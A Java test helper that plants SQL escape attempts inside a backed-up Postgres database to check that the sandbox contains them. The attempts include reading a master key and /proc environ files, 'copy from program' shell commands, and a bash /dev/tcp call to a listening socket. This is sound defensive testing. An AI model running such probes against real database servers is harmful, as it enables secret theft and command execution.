package dev.nightshift.backup.proof;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.nightshift.testing.Postgres;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;

/**
 * Code that a source gives its backups to carry: it tries all that it should not come to, and fails with what worked. Around it
 * are what it should like to have: a key, a repository, a store, and somebody who listens, with rights that anybody has, since
 * it is the walls that have to keep it out.
 */
final class LookAround implements AutoCloseable {
    /** What every process within may know of its surroundings: Isolation gives three, the shell and the server the rest. */
    private static final Set<String> HARMLESS = Set.of(
            "PATH",
            "LANG",
            "TZ",
            "PWD",
            "OLDPWD",
            "SHLVL",
            "_",
            "LC_COLLATE",
            "LC_CTYPE",
            "LC_MESSAGES",
            "LC_MONETARY",
            "LC_NUMERIC",
            "LC_TIME",
            "PGSYSCONFDIR",
            "PGLOCALEDIR");

    private final Path folder;
    private final Path key;
    private final Path store;
    private final Path repository;
    private final ServerSocket listening;

    /** @param store where a backup lies already */
    LookAround(Path folder, Path store) throws IOException {
        this.folder = folder;
        this.store = store;
        this.key = Files.writeString(
                Files.createDirectory(folder.resolve("secrets")).resolve("master.key"), "THE KEY");
        this.repository = Files.createDirectories(folder.resolve("repository/data"));
        Files.writeString(repository.resolve("PG_VERSION"), "18");
        for (Path open : List.of(folder, key.getParent(), store, repository.getParent(), repository)) {
            Files.setPosixFilePermissions(open, PosixFilePermissions.fromString("rwxr-xr-x"));
        }
        this.listening = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    }

    /** For a program of the shell. */
    String knock() {
        return knock(listening.getLocalPort());
    }

    private static String knock(int port) {
        return "bash -c ''echo hello > /dev/tcp/127.0.0.1/" + port + "''";
    }

    Path key() {
        return key;
    }

    /** That nobody may write. */
    Path mine() {
        return folder.resolve("mine");
    }

    /**
     * What the source has to run: the table {@code public.told}, {@code public.look_around()}, and {@code public.indexed(n)}, which
     * looks around in a sandbox and is n on the source, so that whatever is built on it can be made there.
     *
     * @param stored the folder of a backup
     */
    String[] statements(Postgres source, Path stored) {
        List<String> tries = List.of(
                "select pg_read_file('PG_VERSION')", // its own, the only one that may work
                "select pg_read_file('" + key + "')",
                "select lo_import('" + key + "')",
                "select pg_ls_dir('" + key.getParent() + "')",
                "select pg_ls_dir('" + store + "')",
                "select pg_read_file('" + stored + "/manifest.json')",
                "select pg_ls_dir('" + repository + "')",
                "select pg_read_file('" + source.cluster().data() + "/PG_VERSION')",
                "select pg_read_binary_file('/proc/" + ProcessHandle.current().pid() + "/environ')",
                "select pg_read_binary_file('/proc/1/environ')",
                "copy public.told from program 'cat " + key + "'",
                "copy public.told from program '" + knock() + "'",
                "copy public.told from program '" + knock(source.port()) + "'",
                "copy public.told to '" + mine() + "'",
                "copy public.told to program 'touch " + mine() + "'");
        return new String[] {"create table if not exists public.told (line text)", function(tries), """
            create function public.indexed(n int) returns int immutable language plpgsql as $$ begin
                return case when current_setting('listen_addresses') = '' then public.look_around() else n end;
            end $$
            """};
    }

    /** It tells the names in the environment of every process that it can see, and its limits: address space, CPU, file size. */
    private static String function(List<String> tries) {
        StringBuilder body = new StringBuilder();
        for (int i = 0; i < tries.size(); i++) {
            body.append("begin execute $try$")
                    .append(tries.get(i))
                    .append("$try$; worked := worked || ' ")
                    .append(i)
                    .append("'; exception when others then null; end;\n");
        }
        return """
                create function public.look_around() returns int language plpgsql as $body$
                declare
                    worked text := '';
                    names text;
                begin
                    %s
                    truncate public.told;
                    copy public.told from program
                        'cat /proc/[0-9]*/environ 2> /dev/null | tr "\\0" "\\n" | cut -d= -f1; env | cut -d= -f1';
                    names := (select string_agg(distinct line, ' ') from public.told);
                    truncate public.told;
                    copy public.told from program 'echo $(id -u) $(ulimit -v) $(ulimit -t) $(ulimit -f)';
                    -- What a function raises is withheld; the parser quotes the word that it does not understand, whole
                    execute format('"It ran. Worked: <%%s> Environment: <%%s> User, limits: <%%s>"',
                        worked, names, (select line from public.told));
                    return 1;
                end $body$
                """.formatted(body);
    }

    /** Of what it told: it ran, its own file was all that it could read, it has limits, and another user. */
    static void assertHarmless(String told) {
        assertTrue(told.contains("It ran. Worked: < 0> Environment: <"), told);
        Set<String> known = new TreeSet<>(List.of(between(told, "Environment: <")));
        assertTrue(known.contains("PATH"), told);
        known.removeAll(HARMLESS);
        known.remove(""); // a server process writes its title over its own
        assertEquals(Set.of(), known);
        String[] own = between(told, "User, limits: <");
        assertEquals(4, own.length, told);
        for (String each : own) {
            assertTrue(each.matches("[1-9]\\d*"), told); // neither root nor unlimited
        }
    }

    private static String[] between(String told, String from) {
        int at = told.indexOf(from) + from.length();
        return told.substring(at, told.indexOf('>', at)).split(" ", -1);
    }

    /** Nobody came, and nothing was written. */
    void assertNobodyCame() throws IOException {
        listening.setSoTimeout(1);
        assertThrows(SocketTimeoutException.class, listening::accept, "nobody came");
        assertFalse(Files.exists(mine()));
        assertEquals("THE KEY", Files.readString(key));
    }

    @Override
    public void close() throws IOException {
        listening.close();
    }
}
